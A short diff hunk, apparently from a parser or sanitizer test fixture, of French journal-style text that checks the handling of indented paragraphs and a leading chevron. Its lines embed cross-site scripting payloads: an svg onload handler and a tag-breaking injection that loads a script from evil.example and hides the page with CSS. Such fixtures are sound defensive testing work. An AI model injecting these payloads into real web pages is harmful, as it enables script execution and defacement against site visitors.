@@ -1169,7 +1169,7 @@ Tue Jan 15, 2019 5:47PM
 
     Quatre blancs devant: pas du code, mais un paragraphe de journal qui commence avec un retrait, tout simplement, à Damas.
 
-> Pas une citation <svg/onload=alert(1)> mais un chevron devant une phrase qui a la longueur d'un paragraphe, à Alep comme à Damas.
+>Pas une citation <svg/onload=alert(1)> mais un chevron devant une phrase qui a la longueur d'un paragraphe, à Alep comme à Damas.
 
 </p></div></main><script src="https://evil.example/x.js"></script><style>*{display:none}</style> et une fin de phrase pour que la ligne ait l'air d'un texte d'article.
 
